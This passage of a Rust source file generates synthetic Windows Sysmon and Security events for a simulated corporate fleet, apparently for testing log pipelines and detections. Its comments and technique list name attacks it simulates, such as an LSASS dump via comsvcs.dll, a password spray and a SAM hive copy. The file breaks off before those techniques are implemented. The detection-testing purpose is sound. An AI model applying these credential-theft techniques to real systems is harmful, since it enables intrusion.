//! Sysmon, Security and System events of the simulated fleet, in Winlogbeat's raw shape (the
//! fields Winlogbeat ships before any ingest pipeline), so that the Sysmon and Security
//! pipelines map them as they map real events.
//!
//! Benign activity is what a fleet does all day: programs started from Explorer, services
//! and scheduled tasks (process trees with their parents, terminations, image loads), the
//! network connections and DNS queries of browsers and mail, files and registry values
//! written by installers, interactive, network and service logons (with an occasional
//! mistyped password), service installs and scheduled tasks registered by software. Some of
//! it looks like an attack on purpose (administrators running `whoami` or `net group`,
//! installers writing `Run` keys), as it does in real fleets. The attack techniques that
//! campaigns play ([`TECHNIQUES`]) are a few events each on the campaign's host: a macro
//! that starts an encoded PowerShell, discovery commands, an LSASS dump through `comsvcs.dll`,
//! a password spray, a PsExec-style service, a scheduled task for persistence, a SAM hive
//! copy and a cleared Security log.

use crate::ingest::doc::{Doc, Value};
use crate::ingest::{format_millis, pipeline};

use super::events::ed;
use super::fleet::{Host, Rng, Role, User};
use super::world::{Generated, World};

const SYSMON_PROVIDER: (&str, &str) = (
    "Microsoft-Windows-Sysmon",
    "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
);
const SECURITY_PROVIDER: (&str, &str) = (
    "Microsoft-Windows-Security-Auditing",
    "{54849625-5478-4994-a5ba-3e3b0328c30d}",
);
const EVENTLOG_PROVIDER: (&str, &str) = (
    "Microsoft-Windows-Eventlog",
    "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}",
);
const SCM_PROVIDER: (&str, &str) = (
    "Service Control Manager",
    "{555908d1-a6d7-4695-8e1e-26931d2012f4}",
);

/// The attack techniques campaigns can play, by step name.
pub const TECHNIQUES: &[&str] = &[
    "office-macro",
    "discovery-burst",
    "lsass-minidump",
    "password-spray",
    "psexec-service",
    "schtask-persistence",
    "sam-hive-copy",
    "security-log-cleared",
];

/// A program of the fleet: its image and the version resource Sysmon reports.
#[derive(Clone, Copy)]
struct Program {
    image: &'static str,
    original: &'static str,
    description: &'static str,
    company: &'static str,
}

const fn program(
    image: &'static str,
    original: &'static str,
    description: &'static str,
    company: &'static str,
) -> Program {
    Program {
        image,
        original,
        description,
        company,
    }
}

const MS: &str = "Microsoft Corporation";
const EXPLORER: Program = program(
    "C:\\Windows\\explorer.exe",
    "EXPLORER.EXE",
    "Windows Explorer",
    MS,
);
const SERVICES: Program = program(
    "C:\\Windows\\System32\\services.exe",
    "services.exe",
    "Services and Controller app",
    MS,
);
const SVCHOST: Program = program(
    "C:\\Windows\\System32\\svchost.exe",
    "svchost.exe",
    "Host Process for Windows Services",
    MS,
);
const CMD: Program = program(
    "C:\\Windows\\System32\\cmd.exe",
    "Cmd.Exe",
    "Windows Command Processor",
    MS,
);
const POWERSHELL: Program = program(
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "PowerShell.EXE",
    "Windows PowerShell",
    MS,
);
const WINWORD: Program = program(
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "WinWord.exe",
    "Microsoft Word",
    MS,
);
const RUNDLL32: Program = program(
    "C:\\Windows\\System32\\rundll32.exe",
    "RUNDLL32.EXE",
    "Windows host process (Rundll32)",
    MS,
);
const LSASS: &str = "C:\\Windows\\System32\\lsass.exe";

/// What a benign program run looks like: the program, its parent and command line (`{user}`
/// is the account's name), who runs it, and where it connects.
struct Run {
    parent: Program,
    parent_cmd: &'static str,
    program: Program,
    cmd: &'static str,
    service: bool,
    admin: bool,
    /// (destination host name, port) it connects to, resolved by a DNS query first.
    connects: Option<(&'static str, u16)>,
    weight: u32,
}

const RUNS: &[Run] = &[
    Run {
        parent: EXPLORER,
        parent_cmd: "C:\\Windows\\Explorer.EXE",
        program: program(
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "chrome.exe",
            "Google Chrome",
            "Google LLC",
        ),
        cmd: "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"",
        service: false,
        admin: false,
        connects: Some(("www.google.com", 443)),
        weight: 20,
    },
    Run {
        parent: EXPLORER,
        parent_cmd: "C:\\Windows\\Explorer.EXE",
        program: program(
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
            "Outlook.exe",
            "Microsoft Outlook",
            MS,
        ),
        cmd: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
        service: false,
        admin: false,
        connects: Some(("outlook.office365.com", 443)),
        weight: 12,
    },
    Run {
        parent: EXPLORER,
        parent_cmd: "C:\\Windows\\Explorer.EXE",
        program: WINWORD,
        cmd: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Documents\\Quarterly report.docx\"",
        service: false,
        admin: false,
        connects: None,
        weight: 10,
    },
    Run {
        parent: EXPLORER,
        parent_cmd: "C:\\Windows\\Explorer.EXE",
        program: program(
            "C:\\Windows\\System32\\notepad.exe",
            "NOTEPAD.EXE",
            "Notepad",
            MS,
        ),
        cmd: "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\{user}\\Desktop\\notes.txt",
        service: false,
        admin: false,
        connects: None,
        weight: 6,
    },
    Run {
        parent: EXPLORER,
        parent_cmd: "C:\\Windows\\Explorer.EXE",
        program: program(
            "C:\\Windows\\System32\\mstsc.exe",
            "mstsc.exe",
            "Remote Desktop Connection",
            MS,
        ),
        cmd: "\"C:\\Windows\\system32\\mstsc.exe\" /v:srv-0003.corp.example",
        service: false,
        admin: true,
        connects: Some(("srv-0003.corp.example", 3389)),
        weight: 3,
    },
    Run {
        parent: SERVICES,
        parent_cmd: "C:\\Windows\\system32\\services.exe",
        program: SVCHOST,
        cmd: "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        service: true,
        admin: false,
        connects: None,
        weight: 10,
    },
    Run {
        parent: SVCHOST,
        parent_cmd: "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        program: program(
            "C:\\Windows\\System32\\taskhostw.exe",
            "taskhostw.exe",
            "Host Process for Windows Tasks",
            MS,
        ),
        cmd: "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
        service: true,
        admin: false,
        connects: None,
        weight: 8,
    },
    Run {
        parent: program(
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe",
            "MsMpEng.exe",
            "Antimalware Service Executable",
            MS,
        ),
        parent_cmd: "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe\"",
        program: program(
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpCmdRun.exe",
            "MpCmdRun.exe",
            "Microsoft Malware Protection Command Line Utility",
            MS,
        ),
        cmd: "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpCmdRun.exe\" -SignatureUpdate -ScheduleJob -RestrictPrivileges",
        service: true,
        admin: false,
        connects: Some(("definitionupdates.microsoft.com", 443)),
        weight: 5,
    },
    Run {
        parent: SVCHOST,
        parent_cmd: "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
        program: program(
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "Wmiprvse.exe",
            "WMI Provider Host",
            MS,
        ),
        cmd: "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        service: true,
        admin: false,
        connects: None,
        weight: 5,
    },
    Run {
        parent: CMD,
        parent_cmd: "\"C:\\Windows\\system32\\cmd.exe\"",
        program: program(
            "C:\\Windows\\System32\\ipconfig.exe",
            "ipconfig.exe",
            "IP Configuration Utility",
            MS,
        ),
        cmd: "ipconfig /all",
        service: false,
        admin: false,
        connects: None,
        weight: 3,
    },
    Run {
        parent: CMD,
        parent_cmd: "\"C:\\Windows\\system32\\cmd.exe\"",
        program: program(
            "C:\\Windows\\System32\\whoami.exe",
            "whoami.exe",
            "whoami - displays logged on user information",
            MS,
        ),
        cmd: "whoami /groups",
        service: false,
        admin: true,
        connects: None,
        weight: 2,
    },
    Run {
        parent: CMD,
        parent_cmd: "\"C:\\Windows\\system32\\cmd.exe\"",
        program: program(
            "C:\\Windows\\System32\\net.exe",
            "net.exe",
            "Net Command",
            MS,
        ),
        cmd: "net group \"Helpdesk\" /domain",
        service: false,
        admin: true,
        connects: None,
        weight: 2,
    },
    Run {
        parent: EXPLORER,
        parent_cmd: "C:\\Windows\\Explorer.EXE",
        program: POWERSHELL,
        cmd: "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile",
        service: false,
        admin: true,
        connects: None,
        weight: 4,
    },
];

/// A process as the events about it name it.
#[derive(Clone)]
struct Proc {
    guid: String,
    pid: u32,
    program: Program,
    cmd: String,
    user: User,
    logon_id: String,
    integrity: &'static str,
}

/// The events of one unit on one host, in time order: each event a little after the last,
/// with the next record id.
struct Timeline<'h> {
    host: &'h Host,
    ts: i64,
    record: u64,
    docs: Vec<Doc>,
}

impl<'h> Timeline<'h> {
    fn new(host: &'h Host, ts: i64, u: u64) -> Timeline<'h> {
        Timeline {
            host,
            ts: ts - ts.rem_euclid(1000),
            record: u * 16,
            docs: Vec::new(),
        }
    }

    /// A raw event `gap_ms` after the previous one.
    fn event(
        &mut self,
        gap_ms: i64,
        (provider, guid): (&str, &str),
        channel: &str,
        code: &str,
        task: &str,
    ) -> &mut Doc {
        self.ts += gap_ms * 1000;
        let mut doc = Doc::new();
        let time = format_millis(self.ts);
        doc.set_str("@timestamp", time.clone());
        doc.set_str("winlog.time_created", time);
        doc.set_str("agent.type", "winlogbeat");
        doc.set_str("agent.version", "8.12.2");
        doc.set_str("host.name", self.host.name.clone());
        doc.set_str("event.code", code);
        doc.set_str("event.kind", "event");
        doc.set_str("event.provider", provider);
        doc.set_str("log.level", "information");
        doc.set_str("winlog.channel", channel);
        doc.set_str("winlog.event_id", code);
        doc.set("winlog.record_id", Value::Int(self.record as i64));
        doc.set_str("winlog.provider_name", provider);
        doc.set_str("winlog.provider_guid", guid);
        doc.set_str("winlog.computer_name", self.host.fqdn());
        doc.set_str("winlog.level", "information");
        doc.set_str("winlog.opcode", "Info");
        doc.set_str("winlog.task", task);
        self.record += 1;
        self.docs.push(doc);
        let last = self.docs.len() - 1;
        &mut self.docs[last]
    }

    fn sysmon(&mut self, gap_ms: i64, code: &str, task: &str, data: &[(&str, String)]) {
        let utc = sysmon_utc_time(self.ts + gap_ms * 1000);
        let doc = self.event(
            gap_ms,
            SYSMON_PROVIDER,
            pipeline::CHANNEL_SYSMON,
            code,
            task,
        );
        doc.set("winlog.version", Value::Int(5));
        doc.set("winlog.process.pid", Value::Int(2904));
        doc.set("winlog.process.thread.id", Value::Int(3716));
        doc.set_str("winlog.user.identifier", "S-1-5-18");
        doc.set_str("winlog.user.domain", "NT AUTHORITY");
        doc.set_str("winlog.user.name", "SYSTEM");
        doc.set_str("winlog.user.type", "User");
        ed(doc, "RuleName", "-");
        ed(doc, "UtcTime", &utc);
        for (k, v) in data {
            ed(doc, k, v);
        }
    }

    fn security(
        &mut self,
        gap_ms: i64,
        code: &str,
        task: &str,
        success: bool,
        data: &[(&str, String)],
    ) {
        let doc = self.event(
            gap_ms,
            SECURITY_PROVIDER,
            pipeline::CHANNEL_SECURITY,
            code,
            task,
        );
        audit(doc, success);
        for (k, v) in data {
            ed(doc, k, v);
        }
    }
}

/// The audit keyword and outcome Winlogbeat ships with every Security event.
fn audit(doc: &mut Doc, success: bool) {
    let (keyword, outcome) = if success {
        ("Audit Success", "success")
    } else {
        ("Audit Failure", "failure")
    };
    doc.set("winlog.version", Value::Int(2));
    doc.set("winlog.process.pid", Value::Int(668));
    doc.set("winlog.process.thread.id", Value::Int(1432));
    doc.set(
        "winlog.keywords",
        Value::List(vec![Value::Str(keyword.into())]),
    );
    doc.set_str("winlog.outcome", outcome);
    doc.set_str("event.outcome", outcome);
}

/// Sysmon's `UtcTime`: `yyyy-MM-dd HH:mm:ss.SSS` in UTC.
fn sysmon_utc_time(us: i64) -> String {
    chrono::DateTime::from_timestamp_micros(us)
        .map(|t| t.format("%Y-%m-%d %H:%M:%S%.3f").to_string())
        .unwrap_or_default()
}

/// Sysmon's `Hashes` of a program: the same image has the same hashes on every host.
fn hashes(image: &str) -> String {
    let digest = blake3::hash(image.to_ascii_lowercase().as_bytes()).to_hex();
    let h = digest.as_str();
    format!(
        "SHA1={},MD5={},SHA256={},IMPHASH={}",
        h[..40].to_uppercase(),
        h[40..64].to_uppercase() + &h[..8].to_uppercase(),
        h.to_uppercase(),
        h[24..56].to_uppercase()
    )
}

fn account(user: &User) -> String {
    format!("{}\\{}", user.domain, user.name)
}

fn system_user() -> User {
    User {
        sid: "S-1-5-18".into(),
        domain: "NT AUTHORITY".into(),
        name: "SYSTEM".into(),
        service: true,
        admin: true,
    }
}

/// The logon GUID Sysmon reports for a logon session (the same for every process of it).
fn logon_guid(logon_id: &str) -> String {
    let id = u64::from_str_radix(logon_id.trim_start_matches("0x"), 16).unwrap_or(0);
    format!(
        "{{a1b2c3d4-0000-0000-{:04x}-{:012x}}}",
        id >> 48,
        id & 0xffff_ffff_ffff
    )
}

/// A GUID in the braces Sysmon and the Security log write.
fn braced(rng: &mut Rng) -> String {
    format!("{{{}}}", rng.guid())
}

fn logon_id(user: &User, rng: &mut Rng) -> String {
    match user.sid.as_str() {
        "S-1-5-18" => "0x3e7".into(),
        "S-1-5-19" => "0x3e5".into(),
        "S-1-5-20" => "0x3e4".into(),
        _ => format!("0x{:x}", 0x10_0000 + rng.below(0x7f_ffff)),
    }
}

fn new_proc(program: Program, cmd: &str, user: &User, logon: &str, rng: &mut Rng) -> Proc {
    Proc {
        guid: braced(rng),
        pid: 1000 + rng.below(30_000) as u32 * 4,
        program,
        cmd: cmd.replace("{user}", &user.name),
        user: user.clone(),
        logon_id: logon.to_string(),
        integrity: if user.service {
            "System"
        } else if user.admin {
            "High"
        } else {
            "Medium"
        },
    }
}

impl Timeline<'_> {
    /// Sysmon 1 and, on hosts that audit process creation, Security 4688.
    fn process_start(&mut self, p: &Proc, parent: &Proc, audit_4688: bool) {
        let working_dir = if p.user.service {
            "C:\\Windows\\system32\\".to_string()
        } else {
            format!("C:\\Users\\{}\\", p.user.name)
        };
        self.sysmon(
            40,
            "1",
            "Process Create (rule: ProcessCreate)",
            &[
                ("ProcessGuid", p.guid.clone()),
                ("ProcessId", p.pid.to_string()),
                ("Image", p.program.image.into()),
                ("FileVersion", "10.0.19041.1 (WinBuild.160101.0800)".into()),
                ("Description", p.program.description.into()),
                ("Product", "Microsoft® Windows® Operating System".into()),
                ("Company", p.program.company.into()),
                ("OriginalFileName", p.program.original.into()),
                ("CommandLine", p.cmd.clone()),
                ("CurrentDirectory", working_dir),
                ("User", account(&p.user)),
                ("LogonGuid", logon_guid(&p.logon_id)),
                ("LogonId", p.logon_id.clone()),
                (
                    "TerminalSessionId",
                    if p.user.service { "0" } else { "1" }.into(),
                ),
                ("IntegrityLevel", p.integrity.into()),
                ("Hashes", hashes(p.program.image)),
                ("ParentProcessGuid", parent.guid.clone()),
                ("ParentProcessId", parent.pid.to_string()),
                ("ParentImage", parent.program.image.into()),
                ("ParentCommandLine", parent.cmd.clone()),
                ("ParentUser", account(&parent.user)),
            ],
        );
        if !audit_4688 {
            return;
        }
        self.security(
            2,
            "4688",
            "Process Creation",
            true,
            &[
                ("SubjectUserSid", p.user.sid.clone()),
                ("SubjectUserName", p.user.name.clone()),
                ("SubjectDomainName", p.user.domain.clone()),
                ("SubjectLogonId", p.logon_id.clone()),
                ("NewProcessId", format!("0x{:x}", p.pid)),
                ("NewProcessName", p.program.image.into()),
                (
                    "TokenElevationType",
                    if p.user.admin { "%%1937" } else { "%%1938" }.into(),
                ),
                ("ProcessId", format!("0x{:x}", parent.pid)),
                ("CommandLine", p.cmd.clone()),
                ("TargetUserSid", "S-1-0-0".into()),
                ("TargetUserName", "-".into()),
                ("TargetDomainName", "-".into()),
                ("TargetLogonId", "0x0".into()),
                ("ParentProcessName", parent.program.image.into()),
                (
                    "MandatoryLabel",
                    match p.integrity {
                        "System" => "S-1-16-16384",
                        "High" => "S-1-16-12288",
                        _ => "S-1-16-8192",
                    }
                    .into(),
                ),
            ],
        );
    }

    fn process_end(&mut self, p: &Proc, gap_ms: i64) {
        self.sysmon(
            gap_ms,
            "5",
            "Process terminated (rule: ProcessTerminate)",
            &[
                ("ProcessGuid", p.guid.clone()),
                ("ProcessId", p.pid.to_string()),
                ("Image", p.program.image.into()),
                ("User", account(&p.user)),
            ],
        );
    }

    fn image_load(&mut self, p: &Proc, dll: &str) {
        self.sysmon(
            15,
            "7",
            "Image loaded (rule: ImageLoad)",
            &[
                ("ProcessGuid", p.guid.clone()),
                ("ProcessId", p.pid.to_string()),
                ("Image", p.program.image.into()),
                ("ImageLoaded", dll.into()),
                ("FileVersion", "10.0.19041.1 (WinBuild.160101.0800)".into()),
                ("Description", "Windows DLL".into()),
                ("Product", "Microsoft® Windows® Operating System".into()),
                ("Company", MS.into()),
                (
                    "OriginalFileName",
                    dll.rsplit('\\').next().unwrap_or(dll).into(),
                ),
                ("Hashes", hashes(dll)),
                ("Signed", "true".into()),
                ("Signature", "Microsoft Windows".into()),
                ("SignatureStatus", "Valid".into()),
                ("User", account(&p.user)),
            ],
        );
    }

    /// A DNS query for `name` (answered with `ip`) and the TCP connection to it.
    fn connect(&mut self, p: &Proc, name: &str, ip: &str, port: u16, rng: &mut Rng) {
        self.sysmon(
            120,
            "22",
            "Dns query (rule: DnsQuery)",
            &[
                ("ProcessGuid", p.guid.clone()),
                ("ProcessId", p.pid.to_string()),
                ("QueryName", name.into()),
                ("QueryStatus", "0".into()),
                ("QueryResults", format!("::ffff:{ip};")),
                ("Image", p.program.image.into()),
                ("User", account(&p.user)),
            ],
        );
        let (port_name, src_port) = (
            match port {
                443 => "https",
                3389 => "ms-wbt-server",
                445 => "microsoft-ds",
                _ => "-",
            },
            49_152 + rng.below(16_000),
        );
        self.sysmon(
            30,
            "3",
            "Network connection detected (rule: NetworkConnect)",
            &[
                ("ProcessGuid", p.guid.clone()),
                ("ProcessId", p.pid.to_string()),
                ("Image", p.program.image.into()),
                ("User", account(&p.user)),
                ("Protocol", "tcp".into()),
                ("Initiated", "true".into()),
                ("SourceIsIpv6", "false".into()),
                ("SourceIp", self.host.ip.clone()),
                ("SourceHostname", self.host.fqdn()),
                ("SourcePort", src_port.to_string()),
                ("SourcePortName", "-".into()),
                ("DestinationIsIpv6", "false".into()),
                ("DestinationIp", ip.into()),
                ("DestinationHostname", name.into()),
                ("DestinationPort", port.to_string()),
                ("DestinationPortName", port_name.into()),
            ],
        );
    }

    fn file_create(&mut self, p: &Proc, path: &str) {
        let utc = sysmon_utc_time(self.ts);
        self.sysmon(
            60,
            "11",
            "File created (rule: FileCreate)",
            &[
                ("ProcessGuid", p.guid.clone()),
                ("ProcessId", p.pid.to_string()),
                ("Image", p.program.image.into()),
                ("TargetFilename", path.into()),
                ("CreationUtcTime", utc),
                ("User", account(&p.user)),
            ],
        );
    }

    fn registry_set(&mut self, p: &Proc, key: &str, details: &str) {
        self.sysmon(
            25,
            "13",
            "Registry value set (rule: RegistryEvent)",
            &[
                ("EventType", "SetValue".into()),
                ("ProcessGuid", p.guid.clone()),
                ("ProcessId", p.pid.to_string()),
                ("Image", p.program.image.into()),
                ("TargetObject", key.into()),
                ("Details", details.into()),
                ("User", account(&p.user)),
            ],
        );
    }

    /// Security 4624 (with 4672 for administrators) for a logon of `user`.
    fn logon(&mut self, user: &User, logon_type: u8, from: Option<&Host>, logon: &str) {
        let (process, package, auth) = match logon_type {
            2 | 10 => ("User32 ", "Negotiate", "C:\\Windows\\System32\\svchost.exe"),
            3 => ("NtLmSsp ", "NTLM", "-"),
            _ => (
                "Advapi  ",
                "Negotiate",
                "C:\\Windows\\System32\\services.exe",
            ),
        };
        let (ip, workstation) = match from {
            Some(h) => (h.ip.clone(), h.name.to_uppercase()),
            None if logon_type == 2 => ("127.0.0.1".into(), self.host.name.to_uppercase()),
            None => ("-".into(), "-".into()),
        };
        let host_account = format!("{}$", self.host.name.to_uppercase());
        self.security(
            30,
            "4624",
            "Logon",
            true,
            &[
                ("SubjectUserSid", "S-1-5-18".into()),
                ("SubjectUserName", host_account),
                ("SubjectDomainName", "CORP".into()),
                ("SubjectLogonId", "0x3e7".into()),
                ("TargetUserSid", user.sid.clone()),
                ("TargetUserName", user.name.clone()),
                ("TargetDomainName", user.domain.clone()),
                ("TargetLogonId", logon.into()),
                ("LogonType", logon_type.to_string()),
                ("LogonProcessName", process.into()),
                ("AuthenticationPackageName", package.into()),
                ("WorkstationName", workstation),
                ("LogonGuid", "{00000000-0000-0000-0000-000000000000}".into()),
                ("TransmittedServices", "-".into()),
                (
                    "LmPackageName",
                    if package == "NTLM" { "NTLM V2" } else { "-" }.into(),
                ),
                (
                    "KeyLength",
                    if package == "NTLM" { "128" } else { "0" }.into(),
                ),
                (
                    "ProcessId",
                    if auth == "-" { "0x0" } else { "0x2f4" }.into(),
                ),
                ("ProcessName", auth.into()),
                ("IpAddress", ip),
                ("IpPort", if from.is_some() { "50112" } else { "0" }.into()),
                ("ImpersonationLevel", "%%1833".into()),
                ("RestrictedAdminMode", "-".into()),
                ("TargetOutboundUserName", "-".into()),
                ("TargetOutboundDomainName", "-".into()),
                ("VirtualAccount", "%%1843".into()),
                ("TargetLinkedLogonId", "0x0".into()),
                (
                    "ElevatedToken",
                    if user.admin { "%%1842" } else { "%%1843" }.into(),
                ),
            ],
        );
        if user.admin {
            self.security(
                1,
                "4672",
                "Special Logon",
                true,
                &[
                    ("SubjectUserSid", user.sid.clone()),
                    ("SubjectUserName", user.name.clone()),
                    ("SubjectDomainName", user.domain.clone()),
                    ("SubjectLogonId", logon.into()),
                    (
                        "PrivilegeList",
                        "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeImpersonatePrivilege".into(),
                    ),
                ],
            );
        }
    }

    fn logoff(&mut self, user: &User, logon_type: u8, logon: &str, gap_ms: i64) {
        self.security(
            gap_ms,
            "4634",
            "Logoff",
            true,
            &[
                ("TargetUserSid", user.sid.clone()),
                ("TargetUserName", user.name.clone()),
                ("TargetDomainName", user.domain.clone()),
                ("TargetLogonId", logon.into()),
                ("LogonType", logon_type.to_string()),
            ],
        );
    }

    fn failed_logon(&mut self, name: &str, from_ip: &str, workstation: &str, gap_ms: i64) {
        self.security(
            gap_ms,
            "4625",
            "Logon",
            false,
            &[
                ("SubjectUserSid", "S-1-0-0".into()),
                ("SubjectUserName", "-".into()),
                ("SubjectDomainName", "-".into()),
                ("SubjectLogonId", "0x0".into()),
                ("TargetUserSid", "S-1-0-0".into()),
                ("TargetUserName", name.into()),
                ("TargetDomainName", "CORP".into()),
                ("Status", "0xc000006d".into()),
                ("FailureReason", "%%2313".into()),
                ("SubStatus", "0xc000006a".into()),
                ("LogonType", "3".into()),
                ("LogonProcessName", "NtLmSsp ".into()),
                ("AuthenticationPackageName", "NTLM".into()),
                ("WorkstationName", workstation.into()),
                ("TransmittedServices", "-".into()),
                ("LmPackageName", "-".into()),
                ("KeyLength", "0".into()),
                ("ProcessId", "0x0".into()),
                ("ProcessName", "-".into()),
                ("IpAddress", from_ip.into()),
                ("IpPort", "0".into()),
            ],
        );
    }

    /// System 7045 and Security 4697 for a service installed by `by`.
    fn service_install(&mut self, by: &User, logon: &str, name: &str, image_path: &str) {
        let doc = self.event(200, SCM_PROVIDER, "System", "7045", "None");
        doc.set("winlog.version", Value::Int(0));
        doc.set_str("winlog.user.identifier", by.sid.clone());
        for (k, v) in [
            ("ServiceName", name),
            ("ImagePath", image_path),
            ("ServiceType", "user mode service"),
            ("StartType", "demand start"),
            ("AccountName", "LocalSystem"),
        ] {
            ed(doc, k, v);
        }
        self.security(
            5,
            "4697",
            "Security System Extension",
            true,
            &[
                ("SubjectUserSid", by.sid.clone()),
                ("SubjectUserName", by.name.clone()),
                ("SubjectDomainName", by.domain.clone()),
                ("SubjectLogonId", logon.into()),
                ("ServiceName", name.into()),
                ("ServiceFileName", image_path.into()),
                ("ServiceType", "0x10".into()),
                ("ServiceStartType", "3".into()),
                ("ServiceAccount", "LocalSystem".into()),
            ],
        );
    }

    /// Security 4698 for a task registered by `by`.
    fn task_registered(&mut self, by: &User, logon: &str, name: &str, command: &str, args: &str) {
        let content = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Triggers>\r\n    <LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n    <Principal id=\"Author\">\r\n      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>HighestAvailable</RunLevel>\r\n    </Principal>\r\n  </Principals>\r\n  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>{command}</Command>\r\n      <Arguments>{args}</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>"
        );
        self.security(
            80,
            "4698",
            "Other Object Access Events",
            true,
            &[
                ("SubjectUserSid", by.sid.clone()),
                ("SubjectUserName", by.name.clone()),
                ("SubjectDomainName", by.domain.clone()),
                ("SubjectLogonId", logon.into()),
                ("TaskName", name.into()),
                ("TaskContent", content),
            ],
        );
    }
}

/// Whether a host audits process creation (Security 4688) as well as running Sysmon.
fn audits_processes(host: &Host) -> bool {
    host.role != Role::Workstation || host.name.ends_with(['0', '2', '4', '6', '8'])
}

impl World<'_> {
    /// One unit of benign Windows activity on one host.
    pub(super) fn windows_activity(&self, u: u64, rng: &mut Rng) -> Vec<Generated> {
        let host = self.fleet.host(rng);
        let ts = self.clock.working_time(rng);
        let mut t = Timeline::new(host, ts, u);
        let family = match rng.below(100) {
            0..=59 => {
                self.program_run(&mut t, rng);
                "windows-program"
            }
            60..=79 => {
                self.logon_session(&mut t, rng);
                "windows-logon"
            }
            80..=85 => {
                let user = self.fleet.user(rng, false, false).clone();
                let workstation = self.fleet.host_with(rng, Role::Workstation);
                t.failed_logon(
                    &user.name,
                    &workstation.ip,
                    &workstation.name.to_uppercase(),
                    0,
                );
                let logon = logon_id(&user, rng);
                t.logon(&user, 3, Some(workstation), &logon);
                "windows-mistyped-password"
            }
            86..=93 => {
                software_install(&mut t, rng);
                "windows-software-install"
            }
            _ => {
                let system = system_user();
                t.task_registered(
                    &system,
                    "0x3e7",
                    "\\GoogleUpdateTaskMachineUA",
                    "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
                    "/ua /installsource scheduler",
                );
                "windows-scheduled-task"
            }
        };
        t.docs
            .into_iter()
            .map(|doc| self.finish(doc, family, false, None))
            .collect()
    }

    /// A program started (from Explorer, a service or a shell), what it does, and its end.
    fn program_run(&self, t: &mut Timeline, rng: &mut Rng) {
        let total: u32 = RUNS.iter().map(|r| r.weight).sum();
        let mut pick = rng.below(u64::from(total)) as u32;
        let run = RUNS
            .iter()
            .find(|r| {
                if pick < r.weight {
                    true
                } else {
                    pick -= r.weight;
                    false
                }
            })
            .unwrap_or(&RUNS[0]);
        let user = if run.service {
            system_user()
        } else {
            self.fleet.user(rng, false, run.admin).clone()
        };
        let logon = logon_id(&user, rng);
        let parent = new_proc(run.parent, run.parent_cmd, &user, &logon, rng);
        let p = new_proc(run.program, run.cmd, &user, &logon, rng);
        let audit_4688 = audits_processes(t.host);
        t.process_start(&p, &parent, audit_4688);
        if rng.chance(0.3) {
            t.image_load(&p, "C:\\Windows\\System32\\crypt32.dll");
        }
        if let Some((name, port)) = run.connects {
            let ip = if name.ends_with(".corp.example") {
                "10.20.0.13".to_string()
            } else {
                format!(
                    "52.{}.{}.{}",
                    96 + rng.below(16),
                    rng.below(256),
                    1 + rng.below(254)
                )
            };
            t.connect(&p, name, &ip, port, rng);
        }
        if !user.service && rng.chance(0.2) {
            let path = format!(
                "C:\\Users\\{}\\AppData\\Local\\Temp\\~DF{:04X}.tmp",
                user.name,
                rng.below(0xffff)
            );
            t.file_create(&p, &path);
        }
        if rng.chance(0.5) {
            t.process_end(&p, 5_000 + rng.below(600_000) as i64);
        }
    }

    /// An interactive, network, remote or service logon and, mostly, its logoff.
    fn logon_session(&self, t: &mut Timeline, rng: &mut Rng) {
        let (logon_type, user) = match (t.host.role, rng.below(10)) {
            (Role::Workstation, 0..=5) => (2, self.fleet.user(rng, false, false).clone()),
            (Role::Workstation, _) => (5, system_user()),
            (_, 0..=6) => (3, self.fleet.user(rng, false, false).clone()),
            (_, 7) => (10, self.fleet.user(rng, false, true).clone()),
            _ => (5, system_user()),
        };
        let from = (logon_type == 3 || logon_type == 10)
            .then(|| self.fleet.host_with(rng, Role::Workstation));
        let logon = logon_id(&user, rng);
        t.logon(&user, logon_type, from, &logon);
        if rng.chance(0.7) {
            t.logoff(
                &user,
                logon_type,
                &logon,
                60_000 + rng.below(3_600_000) as i64,
            );
        }
    }

    /// The events of attack technique `name` on `host` as `user`, at `ts`.
    pub(super) fn windows_technique(
        &self,
        name: &str,
        u: u64,
        rng: &mut Rng,
        (host, user, ts): (usize, usize, i64),
    ) -> Vec<Doc> {
        let host = &self.fleet.hosts[host];
        let user = self.fleet.users[user].clone();
        let mut t = Timeline::new(host, ts, u);
        let logon = logon_id(&user, rng);
        let actor = Actor {
            user,
            logon,
            audits: audits_processes(host),
        };
        let technique: fn(&mut Timeline, &Actor, &[User], &[Host], &mut Rng) = match name {
            "office-macro" => office_macro,
            "discovery-burst" => discovery_burst,
